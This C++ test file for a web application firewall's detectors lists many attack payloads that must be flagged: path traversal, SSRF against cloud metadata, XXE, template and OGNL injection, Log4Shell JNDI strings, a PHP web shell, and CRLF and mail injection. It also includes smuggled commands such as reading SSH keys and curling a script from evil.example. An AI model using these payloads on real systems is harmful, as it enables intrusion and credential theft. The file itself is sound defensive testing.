// Path traversal / LFI, SSRF / RFI, XXE, SSTI, JNDI, NoSQL, LDAP, header injection, code
// injection, protocol anomalies and scanners, end to end through the default profile.
#include <algorithm>
#include <string>
#include <utility>
#include <vector>

#include "gtest/gtest.h"
#include "libs/detect/test_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::Inspect;
using testing::InspectQueryValue;

struct Case {
  const char* value;
  Category category;
};

class ValueAttack : public ::testing::TestWithParam<Case> {};
TEST_P(ValueAttack, IsBlockedInItsCategory) {
  Verdict v = InspectQueryValue(GetParam().value);
  EXPECT_TRUE(Flagged(v)) << GetParam().value;
  EXPECT_TRUE(HasCategory(v, GetParam().category)) << GetParam().value << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, ValueAttack,
    ::testing::Values(
        Case{"../../../../etc/passwd", Category::kLfi},
        Case{"..%2f..%2f..%2fwindows%2fwin.ini", Category::kLfi},
        Case{"%c0%ae%c0%ae%c0%afetc%c0%afshadow", Category::kLfi},
        Case{"....//....//....//etc/hosts", Category::kLfi},
        Case{"..\\..\\..\\boot.ini", Category::kLfi},
        Case{"/static/../../../../../../tmp/x", Category::kPathTraversal},
        Case{"file:///etc/passwd", Category::kLfi},
        Case{"http://169.254.169.254/latest/meta-data/", Category::kSsrf},
        Case{"http://2130706433/admin", Category::kSsrf},           // decimal 127.0.0.1
        Case{"http://0x7f000001/", Category::kSsrf},                // hex
        Case{"http://0177.0.0.1/", Category::kSsrf},                // octal
        Case{"http://[::ffff:127.0.0.1]/", Category::kSsrf},        // IPv6-mapped
        Case{"http://[::ffff:a9fe:a9fe]/latest", Category::kSsrf},  // mapped metadata
        Case{"http://metadata.google.internal/computeMetadata/v1/", Category::kSsrf},
        Case{"gopher://127.0.0.1:6379/_FLUSHALL", Category::kSsrf},
        Case{"http://66.240.183.75/crash.php", Category::kRfi},
        Case{"https://evil.example/shell.txt?", Category::kRfi},
        Case{"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", Category::kXxe},
        Case{"<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include "
             "schemaLocation=\"http://attacker.example/s.xsd\"/></xs:schema>",
             Category::kXxe},
        Case{"<script>document.cookie=\"sessionid=1234; domain=.example.com\";</script>",
             Category::kSessionFixation},
        Case{"x.cookie;expires=", Category::kSessionFixation},
        Case{"<meta http-equiv=\"Set-Cookie\" content=\"sid=known\">", Category::kSessionFixation},
        Case{"{{7*7}}", Category::kSsti},
        Case{"{{''.__class__.__mro__[1].__subclasses__()}}", Category::kSsti},
        Case{"${T(java.lang.Runtime).getRuntime().exec('id')}", Category::kCodeInjection},
        Case{"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
             Category::kSsti},
        Case{"${jndi:ldap://evil.com/a}", Category::kJndi},
        Case{"${${lower:j}${upper:n}di:${::-l}dap://x/a}", Category::kJndi},
        Case{"${${env:NaN:-j}ndi${env:NaN:-:}rmi://x/a}", Category::kJndi},
        Case{"{\"$where\": \"sleep(1000)\"}", Category::kNosqli},
        Case{"true, $where: '1 == 1'", Category::kNosqli},
        Case{"*)(uid=*))(|(uid=*", Category::kLdapi},
        Case{"admin)(|(password=*)", Category::kLdapi},
        Case{"x\r\nSet-Cookie: session=attacker", Category::kProtocol},
        // U+560D and U+010A: servers writing header bytes keep the low byte (CR / LF).
        Case{"/%e5%98%8dSet-cookie%3acrlf%3dinjection", Category::kProtocol},
        Case{"x\xc4\x8aLocation: https://evil.example/", Category::kProtocol},
        Case{"DQpRVUlUDQo", Category::kMailInjection},  // base64 of "\r\nQUIT\r\n"
        Case{"<?php system($_GET['c']); ?>", Category::kCodeInjection},
        Case{"O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", Category::kCodeInjection},
        Case{"php://filter/convert.base64-encode/resource=index.php", Category::kCodeInjection},
        Case{"java.lang.Runtime", Category::kCodeInjection},
        Case{"require('child_process').exec('id')", Category::kCodeInjection},
        Case{"{\"__proto__\":{\"admin\":true}}", Category::kCodeInjection},
        Case{"<!--#exec cmd=\"ls\" -->", Category::kMailInjection},
        Case{"\r\nRCPT TO: victim@example.com\r\n", Category::kMailInjection},
        Case{"x\r\na001 EXAMINE INBOX", Category::kMailInjection},
        Case{"x\r\nd store 2 +FLAGS (\\Deleted)", Category::kMailInjection},
        Case{"x\r\nUSER admin\r\nPASS x\r\nQUIT\r\n", Category::kMailInjection},
        Case{"x\r\nX-Injected-By: attacker", Category::kProtocol}));

class ValueBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(ValueBenign, IsAllowed) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Text, ValueBenign,
    ::testing::Values(
        "https://www.example.com/products?id=12&sort=asc", "version 0.1.8", "10.00",
        "images/../logo.png is relative", "http://localhost:3000/callback",
        "{{ user.name }} is a template variable name", "price (USD)", "see (a) and (b)",
        "user@example.com", "C:\\Users\\ann\\Documents\\report.docx",
        "data:image/"
        "png;base64,"
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6"
        "kgAAAABJRU5ErkJggg==",
        "\xd0\x9c\xd0\xbe\xd1\x81\xd0\xba\xd0\xb2\xd0\xb0, \xd1\x83\xd0\xbb. "
        "\xd0\x9b\xd0\xb5\xd0\xbd\xd0\xb8\xd0\xbd\xd0\xb0 1",
        "\xe6\x9d\xb1\xe4\xba\xac\xe9\x83\xbd\xe6\xb8\x8b\xe8\xb0\xb7\xe5\x8c\xba",
        // Czech 'č' (U+010D) before a word and a colon is just text.
        "Pozn\xc3\xa1mka: \xc4\x8dlink: viz \xc4\x8dhost: n\xc3\xa1v\xc5\xa1t\xc4\x9bva",
        "HelloWorld1", "Passw0rdAbc",
        "Split big schemas with <xs:include> and <b>:import</b> the rest, see "
        "https://docs.example.com/xsd",
        "Cookies: we set a session cookie; domain of use is this site only",
        "my.cookie.jar; path is ~/.config",
        // Multi-line text in a query: prose, INI, a traceback, a shell snippet.
        "Hi,\nplease select the blue one\nquit smoking they said\nthanks",
        "[database]\nuser = app\npass = (from vault)\n",
        "Traceback (most recent call last):\n  File \"app.py\", line 3\nValueError: bad input",
        "Steps:\nthen select Display\nPC list of monitors"));

TEST(Detectors, CodeInJsonBodyFromAnEditorIsAllowed) {
  std::string code =
      "{\"file\":\"main.js\",\"source\":\"function add(a, b) {\\n  if (a > b) {\\n    return a - "
      "b;\\n"
      "  }\\n  // subtract\\n  const x = [1,2,3].map(v => v * 2);\\n  console.log('total', x);\\n"
      "  return a + b;\\n}\\nmodule.exports = { add };\\n\"}";
  Verdict v = Inspect(testing::Post("/api/files", "application/json", code));
  EXPECT_FALSE(Flagged(v)) << v.explanation;
}

// xsi:schemaLocation holds namespace and location pairs; a lone URL there is a fetch hint.
TEST(Detectors, LoneSchemaLocationUrlInAnXmlBodyIsBlocked) {
  const std::string xsi = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" ";
  Verdict attack = Inspect(testing::Post(
      "/api/xml", "application/xml",
      "<?xml version=\"1.0\"?><x " + xsi + "xsi:schemaLocation=\"http://attacker.example/\"/>"));
  EXPECT_TRUE(Flagged(attack));
  EXPECT_TRUE(HasCategory(attack, Category::kXxe)) << attack.explanation;
  // A Maven POM: the namespace, then where its schema lives.
  Verdict pom = Inspect(testing::Post(
      "/api/xml", "application/xml",
      "<?xml version=\"1.0\"?><project xmlns=\"http://maven.apache.org/POM/4.0.0\" " + xsi +
          "xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 "
          "http://maven.apache.org/xsd/maven-4.0.0.xsd\"><version>1</version></project>"));
  EXPECT_FALSE(Flagged(pom)) << pom.explanation;
  Verdict relative =
      Inspect(testing::Post("/api/xml", "application/xml",
                            "<?xml version=\"1.0\"?><order " + xsi +
                                "xsi:noNamespaceSchemaLocation=\"order.xsd\"><id>7</id></order>"));
  EXPECT_FALSE(Flagged(relative)) << relative.explanation;
}

TEST(Detectors, LongFormPostIsAllowed) {
  std::string text;
  for (int i = 0; i < 40; ++i) {
    text +=
        "We would like to select the best option from the menu, and then order it; "
        "delete nothing, update everyone (or at least most people) by email. ";
  }
  Verdict v = Inspect(testing::Post("/feedback", "application/x-www-form-urlencoded",
                                    "name=Ann&message=" + testing::UrlEncode(text)));
  EXPECT_FALSE(Flagged(v)) << v.explanation;
}

// Mail injection needs the protocol's own shape: headers right after the field's first line
// that name an address or a media type, a verb with one argument, an IMAP command with IMAP
// arguments. A message typed into a text box (numbered steps, a pasted forward, "To: all
// staff") has the same first words and is allowed.
TEST(Detectors, MailInjectionNeedsTheProtocolsShape) {
  for (const char* value :
       {"x@example.com\r\nBcc: victim@example.com", "bob\nSubject: spam\nBcc: a@evil.example",
        "x\r\nUSER alice\r\nPASS secret\r\nRETR 1", "x\r\nEHLO evil.example",
        "x\r\na001 EXAMINE INBOX", "x\r\nd store 2 +FLAGS (\\Deleted)",
        "x\r\na001 uid store 231:233", "x\r\nA1 list \"INBOX/\" \"*\"",
        "x\r\nA282 SEARCH FLAGGED SINCE 1-Feb-1994"}) {
    Verdict v = testing::InspectAsForm(value);
    EXPECT_TRUE(HasCategory(v, Category::kMailInjection) && Flagged(v))
        << value << " -> " << v.explanation;
  }
  for (const char* value :
       {"Hello,\r\nUser accounts are locked after three tries.\r\nThanks",
        "Hi team,\nPass the salt please.\nBob",
        "-----Original Message-----\r\nFrom: John Smith <john@example.com>\r\nSent: Monday\r\n"
        "To: Support <help@example.com>\r\nSubject: Invoice 42\r\n\r\nPlease check.",
        "Meeting notes\nTo: all staff\nRe: parking",
        "Dear Sir,\nSubject: refund request\nI would like a refund.",
        "Hello,\nplease forward this.\nFrom: bob@example.com\nThanks",
        "Things to buy:\n2 copy paper boxes\n3 apples",
        "Steps\n1 select the file\n2 delete the old one\n3 rename it\n4 select all",
        "Agenda\n1 list of attendees\n2 search for venue", "Notes\nA1 search results were empty"}) {
    Verdict v = testing::InspectAsForm(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

TEST(Detectors, SmugglingHeadersAreBlocked) {
  OwnedHttpRequest r = testing::Post("/", "application/x-www-form-urlencoded", "a=1");
  r.headers.emplace_back("Transfer-Encoding", " chunked");
  Verdict v = Inspect(r);
  EXPECT_TRUE(Flagged(v));
  EXPECT_TRUE(HasCategory(v, Category::kProtocol));
}

TEST(Detectors, UnknownMethodIsBlockedAndCommonOnesAllowed) {
  OwnedHttpRequest r = testing::Get("/");
  r.method = "FOO";
  EXPECT_TRUE(Flagged(Inspect(r)));
  for (const char* m : {"GET", "HEAD", "OPTIONS", "PUT", "PATCH", "DELETE"}) {
    r.method = m;
    EXPECT_FALSE(Flagged(Inspect(r))) << m;
  }
}

TEST(Detectors, ScannerUserAgentIsBlocked) {
  OwnedHttpRequest r = testing::Get("/");
  r.headers[1].second = "sqlmap/1.7.4#stable (https://sqlmap.org)";
  Verdict v = Inspect(r);
  EXPECT_TRUE(Flagged(v));
  EXPECT_TRUE(HasCategory(v, Category::kScanner));
}

// HTTP client libraries and platform agents are customers' integrations, not scanners.
TEST(Detectors, ClientLibraryUserAgentsAreAllowed) {
  for (const char* ua : {"python-httpx/0.25.0", "python-requests/2.31.0", "curl/8.4.0",
                         "Go-http-client/2.0", "okhttp/4.12.0", "PostmanRuntime/7.36.0",
                         "kube-probe/1.28", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
                         // A product and its version in the comment: "cURL 7.88.1".
                         "Composer/2.6.5 (Linux; 6.2.0; PHP 8.2.12; cURL 7.88.1; "
                         "Platform-PHP 8.2.12; CI)",
                         "ExampleSDK/2.0 (darwin; wget 1.21)"}) {
    OwnedHttpRequest r = testing::Get("/api/v1/items?page=2");
    r.headers[1].second = ua;
    Verdict v = Inspect(r);
    EXPECT_FALSE(Flagged(v)) << ua << " -> " << v.explanation;
  }
  for (const char* ua :
       {"httpx", "Mozilla/5.0 httpx", "sqlmap/1.7.4#stable", "Nuclei - Open-source"}) {
    OwnedHttpRequest r = testing::Get("/");
    r.headers[1].second = ua;
    EXPECT_TRUE(HasCategory(Inspect(r), Category::kScanner)) << ua;
  }
  // A command reading a secret, or fetching a host, is no product token.
  for (const char* ua : {"cat /root/.ssh/id_rsa", "cat /root/.aws/credentials",
                         "x; curl http://evil.example/s.sh", "x; ping 127.1"}) {
    OwnedHttpRequest r = testing::Get("/");
    r.headers[1].second = ua;
    EXPECT_TRUE(Flagged(Inspect(r))) << ua;
  }
}

// Documents that name a published DTD (XHTML, SVG 1.1, Apple property lists) by its public
// identifier and canonical URL are no external-DTD attack; the same declaration pointing
// elsewhere, a SYSTEM DTD, or one with an internal subset still is.
TEST(Detectors, WellKnownPublicDoctypesAreAllowed) {
  for (const char* doc :
       {"<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
        "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg "
        "xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>",
        "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
        "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist "
        "version=\"1.0\"><dict><key>a</key><string>b</string></dict></plist>"}) {
    Verdict v = Inspect(testing::Post("/api/doc", "application/xml", doc));
    EXPECT_FALSE(Flagged(v)) << doc << " -> " << v.explanation;
  }
  for (const char* doc :
       {"<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
        "\"http://evil.example/x.dtd\"><svg/>",
        "<?xml version=\"1.0\"?><!DOCTYPE x PUBLIC \"-//W3C//DTD X//EN\" "
        "\"file:///etc/passwd\"><x/>",
        "<?xml version=\"1.0\"?><!DOCTYPE note SYSTEM \"Note.dtd\"><note/>",
        "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
        "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY % p SYSTEM "
        "\"http://evil.example/\">%p;]><svg/>"}) {
    Verdict v = Inspect(testing::Post("/api/doc", "application/xml", doc));
    EXPECT_TRUE(HasCategory(v, Category::kXxe) && Flagged(v)) << doc << " -> " << v.explanation;
  }
}

// An entity declaration with its '<' stripped by a filter, in a parameter or a header (CRS
// 941130 sends it as the User-Agent): the capitals XML requires, a name, SYSTEM or PUBLIC.
// The same words in lower case, or without a name, are text.
TEST(Detectors, BareExternalEntityDeclarationIsXxe) {
  for (const char* ua :
       {"foo!ENTITY % bar SYSTEM", "!ENTITY xxe PUBLIC \"x\" \"http://e.example/\""}) {
    OwnedHttpRequest r = testing::Get("/");
    r.headers.emplace_back("User-Agent", ua);
    Verdict v = Inspect(r);
    EXPECT_TRUE(HasCategory(v, Category::kXxe) && Flagged(v)) << ua << " -> " << v.explanation;
  }
  EXPECT_TRUE(HasCategory(Inspect(testing::Get("/?q=" + testing::UrlEncode("!ENTITY x SYSTEM"))),
                          Category::kXxe));
  for (const char* q : {"wow!entity resolution system", "Hello!Entity system works",
                        "!ENTITY SYSTEM", "the !ENTITY keyword"}) {
    Verdict v = Inspect(testing::Get("/?q=" + testing::UrlEncode(q)));
    EXPECT_FALSE(HasCategory(v, Category::kXxe)) << q << " -> " << v.explanation;
  }
}

// Struts2 OGNL: "#_memberAccess[...]" and "#context[...]" need neither a dot nor an '@'
// (S2-005-style parameters); in the Content-Type (S2-045), also after a valid media type,
// and in Accept. Ordinary Content-Type and Accept values stay clean.
TEST(Detectors, OgnlInParametersAndTypedHeadersIsCodeInjection) {
  for (const char* q : {"(#_memberAccess['allowStaticMethodAccess']=true)",
                        "#context['xwork.MethodAccessor.denyMethodExecution']=false"}) {
    Verdict v = Inspect(testing::Get("/a.action?x=" + testing::UrlEncode(q)));
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v)) << q;
  }
  const std::string ognl =
      "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
      "(@java.lang.Runtime@getRuntime().exec('id'))}";
  for (const auto& [name, value] : std::vector<std::pair<std::string, std::string>>{
           {"Content-Type", ognl},
           {"Content-Type", "multipart/form-data; boundary=abc; x=" + ognl},
           {"Accept", ognl}}) {
    OwnedHttpRequest r = testing::Post("/a.action", "text/plain", "x");
    r.headers.erase(std::remove_if(r.headers.begin(), r.headers.end(),
                                   [](const auto& h) { return h.first == "Content-Type"; }),
                    r.headers.end());
    r.headers.emplace_back(name, value);
    Verdict v = Inspect(r);
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
        << name << ": " << value << " -> " << v.explanation;
  }
  for (const auto& [name, value] : std::vector<std::pair<std::string, std::string>>{
           {"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
           {"Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
           {"Content-Type", "application/json; charset=utf-8"}}) {
    OwnedHttpRequest r = testing::Get("/");
    r.headers.emplace_back(name, value);
    EXPECT_FALSE(Flagged(Inspect(r))) << name << ": " << value;
  }
}

TEST(Detectors, Log4ShellInAnyHeaderIsBlocked) {
  OwnedHttpRequest r = testing::Get("/");
  r.headers.emplace_back("Accept-Language", "${jndi:ldap://x.example/a}");
  EXPECT_TRUE(HasCategory(Inspect(r), Category::kJndi));
}

TEST(Detectors, ScriptUploadIsBlocked) {
  std::string body =
      "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php.jpg\"\r\n"
      "Content-Type: image/jpeg\r\n\r\nxx\r\n--B--\r\n";
  Verdict v = Inspect(testing::Post("/upload", "multipart/form-data; boundary=B", body));
  EXPECT_TRUE(HasCategory(v, Category::kCodeInjection)) << v.explanation;
}

TEST(Detectors, PayloadInArgumentNameIsFound) {
  Verdict v = Inspect(testing::Get("/?" + testing::UrlEncode("1' union select 1,2--") + "=x"));
  EXPECT_TRUE(HasCategory(v, Category::kSqli));
}

TEST(Detectors, PaddedPayloadAtTheEndOfAHugeValueIsFound) {
  std::string v(200 * 1024, 'A');
  v += "';alert(1)//<script>alert(1)</script>";
  Verdict verdict = Inspect(testing::Post("/", "application/x-www-form-urlencoded", "a=" + v));
  EXPECT_TRUE(HasCategory(verdict, Category::kXss));
}

}  // namespace
}  // namespace shieldx::detect
